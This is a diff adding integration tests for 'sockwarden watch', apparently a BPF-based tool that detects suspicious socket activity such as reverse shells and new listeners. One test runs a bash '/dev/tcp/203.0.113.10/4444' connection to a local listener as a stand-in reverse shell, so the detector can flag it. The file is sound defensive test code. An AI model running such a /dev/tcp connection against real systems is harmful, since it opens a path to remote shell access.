@@ -1,0 +1,274 @@
+//! `sockwarden watch` (issue 18), live: each test makes its own network namespace and runs the
+//! watch inside it. The tracepoint is global, so events of other tests' namespaces show up too:
+//! every assertion names the test's own pids and ports.
+
+use std::io::{BufRead, BufReader};
+use std::process::{Child, Command, Stdio};
+
+use serde_json::Value;
+
+use super::common::{BIN, Netns, require_root};
+
+/// Starts `sockwarden watch ARGS` and waits for its first stderr line (the mode it runs in),
+/// which it returns. With BPF it runs in this test's own namespace: the tracepoint sees every
+/// namespace, and `ip netns exec` would hide tracefs (it mounts a fresh /sys). Without BPF it
+/// runs inside the namespace it dumps.
+fn start_watch(ns: &Netns, args: &[&str]) -> (Child, String) {
+    let mut cmd = if args.contains(&"--no-bpf") {
+        let mut c = Command::new("ip");
+        c.args(["netns", "exec", &ns.name, BIN]);
+        c
+    } else {
+        Command::new(BIN)
+    };
+    let mut child = cmd
+        .args(["watch", "--format", "jsonl"])
+        .args(args)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    let mut err = BufReader::new(child.stderr.take().unwrap());
+    err.read_line(&mut line).unwrap();
+    // Keep draining stderr so the watch never blocks on it.
+    std::thread::spawn(move || std::io::copy(&mut err, &mut std::io::sink()));
+    (child, line)
+}
+
+/// The watch's JSON lines, once it has ended.
+fn lines(child: Child) -> (i32, Vec<Value>) {
+    let out = child.wait_with_output().unwrap();
+    let docs = String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
+        .collect();
+    (out.status.code().unwrap_or(-1), docs)
+}
+
+/// Runs a command in the namespace with stdout piped; returns it once its first line (READY or
+/// a pid) is printed.
+fn spawn_ready(ns: &Netns, args: &[&str]) -> (Child, String) {
+    let mut child = Command::new("ip")
+        .args(["netns", "exec", &ns.name])
+        .args(args)
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    (child, line.trim().to_string())
+}
+
+const LISTENER: &str = "import socket,sys,time\n\
+    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
+    s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8)\n\
+    print('READY', flush=True); time.sleep(float(sys.argv[3]))";
+
+fn rule_findings<'a>(docs: &'a [Value], rule: &str) -> Vec<&'a Value> {
+    docs.iter().filter(|d| d["rule"]["id"] == rule).collect()
+}
+
+fn scan_has(ns: &Netns, rule: &str) -> bool {
+    let out = ns.run(&[BIN, "scan", "--format", "json"]);
+    let rep: Value = serde_json::from_slice(&out.stdout).unwrap();
+    rep["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|f| f["rule_id"] == rule)
+}
+
+#[test]
+fn watch_reports_a_200ms_reverse_shell_no_scan_sees() {
+    if !require_root("watch_reports_a_200ms_reverse_shell_no_scan_sees") {
+        return;
+    }
+    let ns = Netns::new();
+    ns.ip("addr add 203.0.113.10/32 dev lo");
+    let (mut listener, ready) = spawn_ready(
+        &ns,
+        &["python3", "-c", LISTENER, "203.0.113.10", "4444", "10"],
+    );
+    assert_eq!(ready, "READY");
+    assert!(!scan_has(&ns, "NET-C2-001"), "no shell yet");
+    let (watch, mode) = start_watch(&ns, &["--duration", "1500ms"]);
+    assert!(mode.contains("BPF"), "{mode}");
+    let (shell, pid) = spawn_ready(
+        &ns,
+        &[
+            "bash",
+            "-c",
+            "echo $$; exec 3<>/dev/tcp/203.0.113.10/4444; sleep 0.2",
+        ],
+    );
+    let shell_pid: u64 = pid.parse().unwrap();
+    let status = shell.wait_with_output().unwrap().status;
+    assert!(status.success());
+    let (code, docs) = lines(watch);
+    assert!(!scan_has(&ns, "NET-C2-001"), "the shell is gone");
+    let _ = listener.kill();
+    let _ = listener.wait();
+    assert_eq!(code, 1, "findings exit 1");
+    let hits: Vec<&Value> = rule_findings(&docs, "NET-C2-001")
+        .into_iter()
+        .filter(|d| d["process"]["pid"] == shell_pid)
+        .collect();
+    assert_eq!(hits.len(), 1, "one NET-C2-001 for the shell: {docs:#?}");
+    let p = &hits[0]["process"];
+    assert!(p["executable"].as_str().unwrap().ends_with("bash"), "{p}");
+    assert!(
+        p["command_line"]
+            .as_str()
+            .unwrap()
+            .contains("/dev/tcp/203.0.113.10/4444"),
+        "{p}"
+    );
+    // `ip netns exec` execs bash: its parent is this test.
+    assert_eq!(p["parent"]["pid"], u64::from(std::process::id()));
+    assert_eq!(hits[0]["destination"]["ip"], "203.0.113.10");
+    assert_eq!(hits[0]["destination"]["port"], 4444);
+    let summary = docs.last().unwrap();
+    assert_eq!(summary["event"]["dataset"], "sockwarden.watch");
+    assert_eq!(summary["sockwarden"]["watch"]["mode"], "bpf");
+    assert_eq!(summary["sockwarden"]["watch"]["lost"], 0);
+}
+
+#[test]
+fn watch_reports_a_300ms_listener_as_baseline_drift() {
+    if !require_root("watch_reports_a_300ms_listener_as_baseline_drift") {
+        return;
+    }
+    let ns = Netns::new();
+    let base = ns.workdir().join("base.yaml");
+    let out = ns.run(&[BIN, "baseline", "create", "-o", base.to_str().unwrap()]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let (watch, _) = start_watch(
+        &ns,
+        &[
+            "--duration",
+            "1200ms",
+            "--no-default-rules",
+            "--baseline",
+            base.to_str().unwrap(),
+        ],
+    );
+    let (listener, ready) =
+        spawn_ready(&ns, &["python3", "-c", LISTENER, "0.0.0.0", "8089", "0.3"]);
+    assert_eq!(ready, "READY");
+    let listener_pid = u64::from(listener.id());
+    listener.wait_with_output().unwrap();
+    let (code, docs) = lines(watch);
+    assert_eq!(code, 1);
+    let drift: Vec<&Value> = docs
+        .iter()
+        .filter(|d| {
+            d["sockwarden"]["category"] == "new_listener" && d["destination"]["port"] == 8089
+        })
+        .collect();
+    assert_eq!(drift.len(), 1, "{docs:#?}");
+    assert_eq!(drift[0]["destination"]["ip"], "0.0.0.0");
+    assert_eq!(drift[0]["process"]["pid"], listener_pid);
+}
+
+#[test]
+fn watch_keeps_comm_and_uid_of_a_process_already_gone() {
+    if !require_root("watch_keeps_comm_and_uid_of_a_process_already_gone") {
+        return;
+    }
+    let ns = Netns::new();
+    let (mut listener, _) =
+        spawn_ready(&ns, &["python3", "-c", LISTENER, "127.0.0.1", "7001", "10"]);
+    let (watch, _) = start_watch(&ns, &["--duration", "1500ms", "--all-events"]);
+    // Stop the watch while the process connects and exits: its /proc entry is gone when the
+    // watch reads the event.
+    let signal = |sig: &str| {
+        let st = Command::new("kill")
+            .args([sig, &watch.id().to_string()])
+            .status();
+        assert!(st.unwrap().success(), "kill {sig}");
+    };
+    signal("-STOP");
+    let gone = ns.run(&[
+        "python3",
+        "-c",
+        "import ctypes,os,socket\n\
+         ctypes.CDLL(None).prctl(15, b'swgone', 0, 0, 0)\n\
+         s = socket.socket()\n\
+         os.setuid(65534)\n\
+         s.connect(('127.0.0.1', 7001)); s.close()\n\
+         print(os.getpid())",
+    ]);
+    assert!(
+        gone.status.success(),
+        "{}",
+        String::from_utf8_lossy(&gone.stderr)
+    );
+    let gone_pid: u64 = String::from_utf8_lossy(&gone.stdout)
+        .trim()
+        .parse()
+        .unwrap();
+    assert!(!std::path::Path::new(&format!("/proc/{gone_pid}")).exists());
+    signal("-CONT");
+    let (_, docs) = lines(watch);
+    let _ = listener.kill();
+    let _ = listener.wait();
+    let connect = docs
+        .iter()
+        .find(|d| d["event"]["action"] == "connect" && d["process"]["pid"] == gone_pid)
+        .unwrap_or_else(|| panic!("no connect event of pid {gone_pid}: {docs:#?}"));
+    assert_eq!(connect["process"]["name"], "swgone");
+    assert_eq!(connect["process"]["user"]["id"], "65534");
+    assert_eq!(connect["sockwarden"]["process_gone"], true);
+    assert_eq!(connect["destination"]["port"], 7001);
+}
+
+#[test]
+fn watch_without_bpf_says_what_it_cannot_see() {
+    if !require_root("watch_without_bpf_says_what_it_cannot_see") {
+        return;
+    }
+    let ns = Netns::new();
+    let (watch, warning) = start_watch(
+        &ns,
+        &["--no-bpf", "--interval", "200ms", "--duration", "1s"],
+    );
+    assert!(warning.contains("never seen"), "{warning}");
+    let (listener, _) = spawn_ready(
+        &ns,
+        &["python3", "-c", LISTENER, "127.0.0.1", "7002", "0.6"],
+    );
+    let (_, docs) = lines(watch);
+    listener.wait_with_output().unwrap();
+    assert_eq!(docs[0]["event"]["dataset"], "sockwarden.coverage");
+    assert_eq!(docs[0]["event"]["outcome"], "failure");
+    let message = docs[0]["message"].as_str().unwrap();
+    assert!(message.contains("--no-bpf"), "{message}");
+    assert!(message.contains("opens and closes between two dumps is never seen"));
+    let summary = &docs.last().unwrap()["sockwarden"]["watch"];
+    assert_eq!(summary["mode"], "poll");
+    assert!(summary["misses"].as_str().unwrap().contains("never seen"));
+    assert!(
+        summary["events"].as_u64().unwrap() >= 1,
+        "the listener: {summary}"
+    );
+}
+
+/// Loading the program is the verifier's check of it on this kernel.
+#[test]
+fn the_bpf_program_passes_the_verifier() {
+    if !require_root("the_bpf_program_passes_the_verifier") {
+        return;
+    }
+    let t =
+        sockwarden::collect::tracepoint::Tracer::start(1 << 16).unwrap_or_else(|e| panic!("{e}"));
+    assert!(t.netns, "this kernel's BTF gives the namespace offsets");
+    assert_eq!(t.lost(), 0);
+}
